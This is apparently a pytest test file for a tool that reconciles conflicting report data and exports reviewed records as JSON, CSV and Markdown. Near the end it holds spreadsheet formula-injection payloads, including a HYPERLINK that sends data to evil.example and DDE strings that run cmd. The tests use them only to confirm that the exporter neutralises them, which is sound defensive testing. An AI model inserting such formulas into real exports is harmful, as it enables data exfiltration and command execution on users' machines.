"""`reconcile export` on the seeds: agreed, accepted, disputed and open properties with the reports for and against
each value and the decision that settled it; the same in JSON (valid against its schema), CSV and Markdown; kept
across runs; reopened by a newer report; and every refusal."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy.orm import Session

from reconcile.review.queue import Item, queue
from reconcile.validate import schema_problems
from tests.factories import HOSTILE, hostile_reports, titled_meeting
from tests.rendered import render
from tests.review.conftest import FRANCESCHI_TITLE, THIRD_REPORT

ROOT = Path(__file__).resolve().parents[2]
OLD_TITLE = "Deputy Assistant Secretary for the Levant and Near East Bureau"


@pytest.fixture
def decided(seeds, engine) -> dict[str, str]:
    """Franceschi's title accepted, Jamous's title disputed: the labels of both."""
    labels = {
        "accepted": _one(engine, "conflict", "Franceschi", "title").target.label,
        "disputed": _one(engine, "variant", "Jamous", "title").target.label,
    }
    accept = seeds(
        "review",
        "decide",
        labels["accepted"],
        "accept",
        FRANCESCHI_TITLE,
        "--note",
        "the SNC's own release",
        "--reviewer",
        "ana",
    )
    assert accept.exit_code == 0, accept.stderr
    dispute = seeds("review", "decide", labels["disputed"], "dispute", "--note", "two posts?", "--reviewer", "ben")
    assert dispute.exit_code == 0, dispute.stderr
    return labels


def _one(engine, kind: str, subject: str, prop: str) -> Item:
    with Session(engine) as session:
        [item] = [i for i in queue(session, kind=kind) if subject in i.subject and i.property.startswith(prop)]
    return item


def _export(cli, *args: str) -> dict[str, Any]:
    result = cli("export", "--format", "json", *args)
    assert result.exit_code == 0, result.stderr
    data = json.loads(result.stdout)
    assert schema_problems(data, "merged-record") == []
    return data


def _property(export: dict[str, Any], label: str) -> dict[str, Any]:
    [prop] = [p for r in export["records"] for p in r["properties"] if p["finding"] == label]
    return prop


def _record(export: dict[str, Any], name: str) -> dict[str, Any]:
    [record] = [r for r in export["records"] if r["name"] == name]
    return record


def test_accepted_and_disputed_properties_show_their_value_evidence_and_decision(decided, seeds):
    export = _export(seeds)
    accepted = _property(export, decided["accepted"])
    assert (accepted["status"], accepted["value"], accepted["property"]) == ("accepted", FRANCESCHI_TITLE, "title")
    assert {c["report"] for c in accepted["supporting"]} == {"002_c7978846b180afeb"}
    assert all(c["value"] == FRANCESCHI_TITLE and "Natasha Franceschi" in c["sentence"] for c in accepted["supporting"])
    [old] = [c for c in accepted["contradicting"] if c["report"] == "000_644f3aaadc5aa323"]
    assert old["value"] == OLD_TITLE and OLD_TITLE in old["sentence"] and old["span"][1] > old["span"][0]
    assert accepted["competing"] == [] and accepted["reopened"] is False
    assert {k: accepted["decision"][k] for k in ("action", "value", "reviewer", "note", "source")} == {
        "action": "accept",
        "value": FRANCESCHI_TITLE,
        "reviewer": "ana",
        "note": "the SNC's own release",
        "source": None,
    }
    disputed = _property(export, decided["disputed"])
    assert (disputed["status"], disputed["value"]) == ("disputed", None)
    assert disputed["values"] == ["head of the SNC", "President of the Syrian Negotiation Commission"]
    assert {c["value"] for c in disputed["competing"]} == set(disputed["values"])
    assert disputed["supporting"] == disputed["contradicting"] == []
    assert (disputed["decision"]["action"], disputed["decision"]["reviewer"]) == ("dispute", "ben")


def test_agreed_and_open_properties_and_one_record_per_entity_and_event(decided, seeds):
    export = _export(seeds)
    statuses = {p["status"] for r in export["records"] for p in r["properties"]}
    assert statuses == {"agreed", "accepted", "disputed", "open"}
    franceschi = _record(export, "Natasha Franceschi")
    assert (franceschi["id"], franceschi["type"], franceschi["kind"]) == ("E20", "entity", "person")
    [name] = [p for p in franceschi["properties"] if p["property"] == "name"]
    assert (name["status"], name["value"], name["decision"]) == ("agreed", "Natasha Franceschi", None)
    assert len(name["supporting"]) == 2 and name["contradicting"] == name["competing"] == []
    [affiliation] = [p for p in franceschi["properties"] if p["property"] == "affiliation"]
    assert affiliation["value"] == "United States" and affiliation["values"] == ["US", "United States"]
    jamous = _record(export, "Badr Jamous")
    [jamous_name] = [p for p in jamous["properties"] if p["property"] == "name"]
    assert (jamous_name["status"], jamous_name["value"], jamous_name["decision"]) == ("open", None, None)
    assert {c["value"] for c in jamous_name["competing"]} == {"Badr Jamous", "Bader Jamous"}
    types = [r["type"] for r in export["records"]]
    assert (types.count("entity"), types.count("event"), types.count("link")) == (25, 8, 1)
    [link] = [r for r in export["records"] if r["type"] == "link"]
    assert link["provisional"] is True and len(link["events"]) == 2 and link["properties"]


def test_a_second_run_on_the_same_files_keeps_the_export(decided, seeds, fixtures_dir):
    before = _export(seeds)
    again = seeds("run", fixtures_dir / "gold", "--aliases", fixtures_dir / "aliases.json", "-f", "json")
    assert again.exit_code == 0, again.stderr
    assert _export(seeds) == before


def test_a_rejected_finding_leaves_the_record(seeds, engine):
    label = _one(engine, "variant", "Jamous", "name").target.label
    assert seeds("review", "decide", label, "reject", "--note", "one person", "--reviewer", "ana").exit_code == 0
    jamous = _record(_export(seeds), "Badr Jamous")
    assert label not in {p["finding"] for p in jamous["properties"]}
    assert {p["property"] for p in jamous["properties"]} == {"affiliation", "title"}


def test_a_newer_report_contradicting_the_accepted_value_makes_it_open_again(decided, seeds, fixtures_dir, tmp_path):
    (tmp_path / "003_wire.txt").write_text(THIRD_REPORT, encoding="utf-8")
    result = seeds("run", tmp_path, "--aliases", fixtures_dir / "aliases.json", "-f", "json")
    assert result.exit_code == 0, result.stderr
    title = _property(_export(seeds), decided["accepted"])
    assert (title["status"], title["value"], title["reopened"]) == ("open", None, True)
    assert title["decision"]["value"] == FRANCESCHI_TITLE  # the overtaken decision stays visible
    [new] = [c for c in title["contradicting"] if c["report"] == "003_wire"]
    assert "Special Envoy" in new["value"] and "Special Envoy" in new["sentence"]


def test_csv_and_markdown_show_the_same_statuses_as_json(decided, seeds):
    statuses = {p["finding"]: p["status"] for r in _export(seeds)["records"] for p in r["properties"]}
    result = seeds("export", "--format", "csv")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert {row["finding"]: row["status"] for row in rows} == statuses
    assert len(rows) == len(statuses)
    [accepted] = [row for row in rows if row["finding"] == decided["accepted"]]
    assert (accepted["value"], accepted["reviewer"], accepted["decision"]) == (FRANCESCHI_TITLE, "ana", "accept")
    assert "000_644f3aaadc5aa323 [" in accepted["contradicting"] and OLD_TITLE in accepted["contradicting"]
    markdown = seeds("export", "--format", "markdown")
    assert markdown.exit_code == 0, markdown.stderr
    for finding, status in statuses.items():
        assert f" — {status} ({finding}, " in markdown.stdout
    assert f"- published: **{FRANCESCHI_TITLE}**" in markdown.stdout
    assert "- decision: dispute by ben" in markdown.stdout


def test_export_to_a_file_equals_stdout(decided, seeds, tmp_path):
    target = tmp_path / "records.json"
    result = seeds("export", "-o", target)
    assert result.exit_code == 0, result.stderr
    assert result.stdout == ""
    assert json.loads(target.read_text(encoding="utf-8")) == _export(seeds)


def test_an_unknown_format_is_a_usage_error(seeds):
    result = seeds("export", "--format", "xml")
    assert result.exit_code == 2
    assert "'xml' is not one of json, jsonl, csv, markdown" in result.stderr
    assert result.stdout == ""


def test_a_missing_output_folder_is_one_line_and_writes_nothing(seeds, tmp_path: Path):
    target = tmp_path / "nowhere" / "records.csv"
    result = seeds("export", "--format", "csv", "-o", target)
    assert result.exit_code == 1
    assert result.stderr == f"Error: {target}: cannot write the records: folder {target.parent} does not exist\n"
    assert not target.parent.exists()


def test_the_markdown_export_shows_hostile_values_and_notes_as_text(cli, engine, tmp_path):
    assert cli("run", hostile_reports(tmp_path / "reports")).exit_code == 0
    label = _one(engine, "conflict", "Jamous", "title").target.label
    ruling = [HOSTILE["link"], "--source", HOSTILE["img"], "--note", HOSTILE["lines"], "--reviewer", HOSTILE["bold"]]
    decide = cli("review", "decide", label, "accept", *ruling)
    assert decide.exit_code == 0, decide.stderr
    result = cli("export", "--format", "markdown")
    assert result.exit_code == 0, result.stderr
    page = render(result.stdout)
    assert set(page.tags) <= {"h1", "h2", "h3", "p", "ul", "li", "strong"}
    for key, value in HOSTILE.items():
        assert key == "code" or " ".join(value.split()) in page.text  # "code" is a source name: not exported
    link, img, bold = HOSTILE["link"], HOSTILE["img"], HOSTILE["bold"]
    assert f"published: {link} decision: accept “{link}” (source: {img}) by {bold}, " in page.text


# Cells a spreadsheet would run as formulas: a link that sends the sheet's data away, a command through DDE.
FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?d="&A1,"Jamous")',
    "other title": "@SUM(1+1)*cmd|' /C calc'!A0",
    "source": "+cmd|' /C notepad'!A0",
    "note": "-2+3+cmd|' /C calc'!A0",
    "reviewer": "@ana",
}


def test_csv_cells_that_a_spreadsheet_would_run_are_kept_as_text(cli, engine, tmp_path):
    folder = tmp_path / "reports"
    folder.mkdir()
    for name, title in (("=wire", FORMULAS["title"]), ("b", FORMULAS["other title"])):
        titled_meeting(title, source=FORMULAS["source"]).write(folder, name)
    assert cli("run", folder).exit_code == 0
    label = _one(engine, "conflict", "Jamous", "title").target.label
    ruling = [FORMULAS["title"], "--note", FORMULAS["note"], "--reviewer", FORMULAS["reviewer"]]
    assert cli("review", "decide", label, "accept", *ruling).exit_code == 0
    result = cli("export", "--format", "csv")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert not [c for row in rows for c in row.values() if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    [title] = [row for row in rows if row["finding"] == label]
    assert title["value"] == title["decided_value"] == "'" + FORMULAS["title"]
    assert (title["note"], title["reviewer"]) == ("'" + FORMULAS["note"], "'" + FORMULAS["reviewer"])
    assert title["supporting"].startswith("'=wire [")
    assert (title["record_type"], title["name"], title["status"]) == ("entity", "Badr Jamous", "accepted")
